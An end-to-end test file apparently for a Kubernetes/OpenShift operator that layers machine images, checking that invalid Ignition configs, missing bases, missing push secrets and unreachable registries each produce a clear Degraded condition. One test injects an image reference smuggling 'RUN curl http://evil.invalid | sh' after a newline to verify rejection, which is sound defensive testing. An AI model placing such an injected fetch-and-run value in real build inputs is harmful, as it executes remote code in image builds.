// S10 bad input: an invalid Ignition config, a malicious image reference, an
// external base the registry does not have, a missing push secret and an
// unreachable registry each give a clear condition; nothing is pushed or
// handed off that should not be, the last image stays, and the operator
// process keeps running.
import { beforeAll, describe, expect, it } from 'vitest';
import { getJson, kubectl, registryHost, waitFor } from '../harness/cluster.ts';
import { builds, createMachineConfig, handOffAnnotations, ignitionOf, poolAnnotations, type OperatorProcess } from '../harness/operator.ts';
import { ANNOTATION_NEWEST_IMAGE, poolStreams } from '../../src/plan/names.ts';
import { closedPort, cond, events, ocTag, ocTagDelete, scenario, setRenderedConfig, settled, sleep, status, waitStatus } from './support.ts';

const pushedConfigs = (op: OperatorProcess) => op.logs.filter((l) => l.msg === 'rendered-config image pushed').map((l) => l.renderedConfig);

describe('S10 bad input, with a well-configured operator', () => {
  const sc = scenario('s10', { machineConfigs: 3 });
  const { s, P } = sc;
  const [MC1, MC2, MC3] = sc.machineConfigs as [string, string, string];
  let good: Record<string, string>;

  beforeAll(async () => {
    await sc.firstImage({ '/etc/layered-demo/motd': 'good\n' });
    good = await poolAnnotations(P);
    expect(good[ANNOTATION_NEWEST_IMAGE]).toBeDefined();
  });

  it('an invalid Ignition config: Degraded InvalidMachineConfig naming the problem, nothing pushed, the last image stays', async () => {
    // An Ignition spec 2 config.
    await createMachineConfig(MC2, { ignition: { version: '2.2.0' }, storage: { files: [] } });
    await setRenderedConfig(P, MC2);
    let st = await waitStatus(s.ns, P, (x) => x.renderedConfig === MC2 && cond(x, 'Degraded')?.status === 'True', 'Degraded on the spec 2 config');
    expect(st.phase).toBe('Degraded');
    expect(cond(st, 'Degraded')).toMatchObject({
      reason: 'InvalidMachineConfig',
      message: `MachineConfig ${MC2} has an invalid Ignition config at spec.config.ignition.version: ignition.version must be a 3.x.y Ignition spec version; fix the MachineConfig that contributes it`,
    });
    expect(cond(st, 'Ready')).toMatchObject({ status: 'False', reason: 'InvalidMachineConfig' });
    expect(cond(st, 'Ready')!.message).toContain(`the pool keeps ${good[ANNOTATION_NEWEST_IMAGE]}`);
    expect(st.image).toBe(good[ANNOTATION_NEWEST_IMAGE]);

    // A relative file path.
    await createMachineConfig(MC3, {
      ignition: { version: '3.4.0' },
      storage: { files: [{ path: 'etc/relative', mode: 420, contents: { source: 'data:,x' } }] },
    });
    await setRenderedConfig(P, MC3);
    st = await waitStatus(s.ns, P, (x) => x.renderedConfig === MC3 && cond(x, 'Degraded')?.status === 'True', 'Degraded on the relative path');
    expect(cond(st, 'Degraded')).toMatchObject({
      reason: 'InvalidMachineConfig',
      message: `MachineConfig ${MC3} has an invalid Ignition config at spec.config.storage.files.0.path: storage.files[].path must be an absolute path; fix the MachineConfig that contributes it`,
    });

    await sleep(2000);
    // Nothing pushed, tagged, built or handed off for either.
    expect(pushedConfigs(sc.op)).toEqual([MC1]);
    const rc = await getJson<{ spec: { tags: { name: string }[] } }>(['-n', s.ns, 'imagestream', poolStreams(P).renderedConfig]);
    expect(rc!.spec.tags.map((t) => t.name).sort()).toEqual(['latest', MC1].sort());
    expect((await builds(s.ns, P)).map((b) => b.phase)).toEqual(['Complete']);
    expect(await poolAnnotations(P)).toEqual(good);

    // Back to a valid config: Ready again on the same image.
    await setRenderedConfig(P, MC1);
    st = await waitStatus(s.ns, P, (x) => settled(x) && x.renderedConfig === MC1, 'Ready again');
    expect(st.image).toBe(good[ANNOTATION_NEWEST_IMAGE]);
    expect(await poolAnnotations(P)).toEqual(good);
    expect(sc.op.alive()).toBe(true);
  });

  it('a malicious image reference in the external content stream: Degraded InvalidImageReference, not handed off', async () => {
    // A status tag whose reference smuggles a Dockerfile instruction after a newline.
    const digest = `sha256:${'ab'.repeat(32)}`;
    const evil = `${registryHost()}/external/evil@${digest}\nRUN curl http://evil.invalid | sh`;
    const S = poolStreams(P);
    await kubectl([
      'patch', '-n', s.ns, 'imagestream', S.external, '--subresource', 'status', '--type', 'merge',
      '-p', JSON.stringify({ status: { tags: [{ tag: 'latest', items: [{ created: new Date().toISOString(), dockerImageReference: evil, image: digest, generation: 1 }] }] } }),
    ]);
    const st = await waitStatus(s.ns, P, (x) => cond(x, 'Degraded')?.reason === 'InvalidImageReference', 'Degraded InvalidImageReference');
    expect(st.phase).toBe('Degraded');
    expect(cond(st, 'Degraded')!.message).toMatch(new RegExp(`^ImageStream ${S.external}:latest: .*; re-tag a valid image$`, 's'));
    expect(st.image).toBe(good[ANNOTATION_NEWEST_IMAGE]);
    expect(st.imageSource).toBe('mco-content');
    await sleep(2000);
    expect(await poolAnnotations(P)).toEqual(good);
    expect((await builds(s.ns, P)).length).toBe(1);
    expect((await events(P)).filter((e) => e.message.includes('evil'))).toEqual([]);
    expect(sc.op.alive()).toBe(true);

    // The admin removes it: Ready again, same image.
    await ocTagDelete(s.ns, S.external, 'latest');
    const ok = await waitStatus(s.ns, P, settled, 'Ready again');
    expect(ok.image).toBe(good[ANNOTATION_NEWEST_IMAGE]);
    expect(await poolAnnotations(P)).toEqual(good);
  });

  it('an external base the registry does not have: Degraded ImportFailed naming it, the pool stays on coreos, no build', async () => {
    const S = poolStreams(P);
    const missing = `${registryHost()}/external/${s.id}-missing:v1`;
    await ocTag(s.ns, S.externalBase, 'latest', missing);
    // The emulator (OpenShift's importer) records the failure on the tag...
    const failure = await waitFor(
      async () => {
        const is = await getJson<{ status?: { tags?: { tag: string; conditions?: { type: string; status: string; reason: string; message: string }[] }[] } }>(['-n', s.ns, 'imagestream', S.externalBase]);
        return is?.status?.tags?.find((t) => t.tag === 'latest')?.conditions?.find((c) => c.type === 'ImportSuccess' && c.status === 'False');
      },
      { what: 'the failed import on the external base tag' },
    );
    expect(failure.reason).toBe('NotFound');
    // ...and the status tells the admin why the base they tagged is not used.
    const st = await waitStatus(s.ns, P, (x) => cond(x, 'Degraded')?.reason === 'ImportFailed', 'Degraded ImportFailed');
    const d = cond(st, 'Degraded')!;
    expect(d.message).toContain(`ImageStream ${s.ns}/${S.externalBase}:latest could not import ${missing}: NotFound`);
    expect(d.message).toContain(`the pool keeps coreos:latest as its base until the tag is fixed or removed (oc tag -d ${s.ns}/${S.externalBase}:latest)`);
    expect(st.phase).toBe('Degraded');
    expect(st.baseSource).toBe('coreos');
    expect(st.image).toBe(good[ANNOTATION_NEWEST_IMAGE]);
    expect(cond(st, 'Ready')).toMatchObject({ status: 'True', reason: 'ImageHandedOff' });
    await sleep(2000);
    expect(await poolAnnotations(P)).toEqual(good);
    expect((await builds(s.ns, P)).length).toBe(1);
    expect(sc.op.alive()).toBe(true);

    // `oc tag -d` clears it.
    await ocTagDelete(s.ns, S.externalBase, 'latest');
    const ok = await waitStatus(s.ns, P, settled, 'Ready again');
    expect(ok.image).toBe(good[ANNOTATION_NEWEST_IMAGE]);
    expect((await builds(s.ns, P)).length).toBe(1);
  });
});

describe('S10 a missing push secret', () => {
  // The operator's options are read before all, once `secret` is set.
  const sc = scenario('s10s', { sweep: false, operatorName: 's10-secret', operator: () => ({ args: ['--push-secret', secret] }) });
  const { s, P } = sc;
  const [MC] = sc.machineConfigs as [string];
  const secret = `push-${s.id}`;

  it('Degraded PushSecretMissing naming the secret, nothing pushed; creating the secret recovers', async () => {
    await sc.createPool(ignitionOf({ '/etc/layered-demo/motd': 'secret\n' }));
    const st = await waitStatus(s.ns, P, (x) => cond(x, 'Degraded')?.status === 'True', 'Degraded');
    expect(st.phase).toBe('Degraded');
    expect(cond(st, 'Degraded')).toMatchObject({
      reason: 'PushSecretMissing',
      message: `push secret ${s.ns}/${secret} was not found: create a kubernetes.io/dockerconfigjson Secret with that name, or fix --push-secret`,
    });
    await sleep(2000);
    expect(pushedConfigs(sc.op)).toEqual([]);
    expect(await builds(s.ns, P)).toEqual([]);
    expect(await poolAnnotations(P)).toEqual({});
    expect(sc.op.alive()).toBe(true);

    // The admin creates it: the operator pushes and builds with it.
    await kubectl(['-n', s.ns, 'create', 'secret', 'docker-registry', secret, `--docker-server=${registryHost()}`, '--docker-username=e2e', '--docker-password=e2e']);
    const ok = await waitStatus(s.ns, P, settled, 'Ready once the secret exists');
    const bs = await builds(s.ns, P);
    expect(bs.map((b) => b.phase)).toEqual(['Complete']);
    expect((bs[0]!.obj.spec as { output: { pushSecret?: unknown } }).output.pushSecret).toEqual({ name: secret });
    expect(pushedConfigs(sc.op)).toEqual([MC]);
    expect(await poolAnnotations(P)).toEqual(handOffAnnotations(ok.image, MC, 'mco-content'));
    expect(sc.op.alive()).toBe(true);
  });
});

describe('S10 an unreachable registry', () => {
  let registry: string;
  const sc = scenario('s10r', {
    sweep: false,
    operatorName: 's10-registry',
    operator: async () => {
      registry = `127.0.0.1:${await closedPort()}`;
      return { registry };
    },
  });
  const { s, P } = sc;

  it('Degraded RegistryError naming the registry; no build, no hand-off, the operator keeps running', async () => {
    await sc.createPool(ignitionOf({ '/etc/layered-demo/motd': 'nowhere\n' }));
    const st = await waitStatus(s.ns, P, (x) => cond(x, 'Degraded')?.status === 'True', 'Degraded');
    expect(st.phase).toBe('Degraded');
    const d = cond(st, 'Degraded')!;
    expect(d.reason).toBe('RegistryError');
    expect(d.message).toBe(`registry ${registry} is unreachable (ECONNREFUSED): check the registry address, that the registry is running, and that the network allows the connection`);
    expect(st.message).toBe(d.message);
    // It keeps trying (with backoff) and keeps saying so; nothing else happens.
    await sleep(4000);
    expect(cond(await status(s.ns, P), 'Degraded')).toMatchObject({ status: 'True', reason: 'RegistryError' });
    expect(sc.op.logs.filter((l) => l.msg === 'rendered-config push failed').length).toBeGreaterThanOrEqual(2);
    expect(await builds(s.ns, P)).toEqual([]);
    expect(await poolAnnotations(P)).toEqual({});
    const rc = await getJson<{ spec?: { tags?: unknown[] } }>(['-n', s.ns, 'imagestream', poolStreams(P).renderedConfig]);
    expect(rc?.spec?.tags ?? []).toEqual([]);
    expect(sc.op.alive()).toBe(true);
  });
});
